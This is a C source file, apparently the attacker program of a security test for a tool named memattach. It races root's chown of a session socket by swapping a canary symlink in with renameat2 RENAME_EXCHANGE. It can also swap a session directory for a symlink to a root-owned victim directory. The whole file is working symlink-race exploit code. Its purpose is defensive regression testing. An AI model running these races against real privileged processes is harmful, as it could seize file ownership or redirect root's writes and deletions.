/* chown_racer.c — the attacker of tests/security/session-dir-race.sh, run
 * as the target's (unprivileged) user.  It watches TMPDIR with inotify;
 * for each new memattach session directory it can write into, it plants
 * a symlink to CANARY and swaps it with agent.sock (renameat2
 * RENAME_EXCHANGE) as fast as it can, so that a chown() of the socket's
 * path by root lands on the canary.  It always ends with the names as
 * they were (an even number of swaps), so the attach itself goes on.
 * usage: chown_racer TMPDIR CANARY ROUNDS — prints "ready", then one line
 * per directory: "dir NAME swaps N" (N = 0: it could not write there).
 * With VICTIM given, every other directory gets the other attack instead:
 * the whole session directory is swapped with a symlink to VICTIM (a
 * directory of root's), so that root's later uses of the directory's
 * path (bind, chown, the agent copy, the cleanup's unlink) land there.
 * A directory named *-sync-* is the test's marker: memattach is done, the
 * swapped directory is put back, and "sync NAME" is printed. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#define SWAP_TRIES 200000L
#define OPEN_TRIES 20000L

static int exchange(int dfd, const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE);
}

static int exchange2(int dfd, const char *a, const char *b)
{
	return exchange(dfd, a, b);
}

/* Root has chowned the socket itself (the window is over), or the
 * canary (won): stop swapping, so that the agent can connect. */
static int settled(int dfd, const char *canary)
{
	struct stat st;
	if (stat(canary, &st) == 0 && st.st_uid == getuid())
		return 1;
	for (int k = 0; k < 2; k++)
		if (fstatat(dfd, k ? "x" : "agent.sock", &st, AT_SYMLINK_NOFOLLOW) == 0 &&
		    S_ISSOCK(st.st_mode) && st.st_uid == getuid())
			return 1;
	return 0;
}

/* Swaps "x" (the symlink) and "agent.sock" while both exist. */
static long race_dir(int tfd, const char *name, const char *canary)
{
	long swaps = 0;
	int dfd = -1;
	/* the directory may still be root's for a moment (mkdtemp, then chown) */
	for (long i = 0; i < OPEN_TRIES && dfd < 0; i++) {
		dfd = openat(tfd, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
		if (dfd >= 0 && symlinkat(canary, dfd, "x") < 0) {
			close(dfd);
			dfd = -1;
		}
		if (dfd < 0 && errno == ENOENT)
			return 0;
	}
	if (dfd < 0)
		return 0;
	for (long i = 0; i < SWAP_TRIES; i++) {
		if (exchange(dfd, "x", "agent.sock") == 0)
			swaps++;
		if (i % 64 == 0 && settled(dfd, canary))
			break;
	}
	if (swaps % 2 && exchange(dfd, "x", "agent.sock") == 0)
		swaps++;
	unlinkat(dfd, "x", 0);
	close(dfd);
	return swaps;
}

/* Swaps the session directory with a symlink to victim (atomically, so
 * that root's next use of the directory's path lands in victim), and
 * leaves it so until undo_redirect.  1 when swapped. */
static int redirect_dir(int tfd, const char *name, const char *victim)
{
	char lnk[300];
	snprintf(lnk, sizeof lnk, "%s.lnk", name);
	if (symlinkat(victim, tfd, lnk) < 0)
		return 0;
	for (long i = 0; i < OPEN_TRIES; i++) {
		if (exchange2(tfd, name, lnk) == 0)
			return 1;
		if (errno == ENOENT)
			break;
	}
	unlinkat(tfd, lnk, 0);
	return 0;
}

static void undo_redirect(int tfd, const char *name)
{
	char lnk[300];
	snprintf(lnk, sizeof lnk, "%s.lnk", name);
	exchange2(tfd, name, lnk);
	unlinkat(tfd, lnk, 0);
}

int main(int argc, char **argv)
{
	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: chown_racer TMPDIR CANARY ROUNDS [VICTIM]\n");
		return 2;
	}
	int rounds = atoi(argv[3]);
	int tfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int in = inotify_init1(IN_CLOEXEC);
	if (tfd < 0 || in < 0 || inotify_add_watch(in, argv[1], IN_CREATE | IN_ONLYDIR) < 0) {
		perror("chown_racer");
		return 1;
	}
	char pending[NAME_MAX + 1] = "";
	printf("ready\n");
	fflush(stdout);
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	for (int seen = 0; seen < rounds;) {
		ssize_t n = read(in, buf, sizeof buf);
		if (n <= 0)
			return 1;
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *ev = (struct inotify_event *)p;
			p += sizeof *ev + ev->len;
			if (!ev->len || strncmp(ev->name, "memattach-", 10) || !(ev->mask & IN_ISDIR))
				continue;
			if (strstr(ev->name, "-sync-")) {
				/* the test's marker: memattach is done with all
				 * directories before it */
				if (pending[0])
					undo_redirect(tfd, pending);
				pending[0] = 0;
				printf("sync %s\n", ev->name);
				fflush(stdout);
				continue;
			}
			/* one attack per directory, in turn */
			long swaps = 0;
			int redirected = 0;
			if (argc == 5 && seen % 2) {
				redirected = redirect_dir(tfd, ev->name, argv[4]);
				if (redirected)
					snprintf(pending, sizeof pending, "%s", ev->name);
			} else {
				swaps = race_dir(tfd, ev->name, argv[2]);
			}
			printf("dir %s swaps %ld redirected %d\n", ev->name, swaps, redirected);
			fflush(stdout);
			seen++;
		}
	}
	return 0;
}
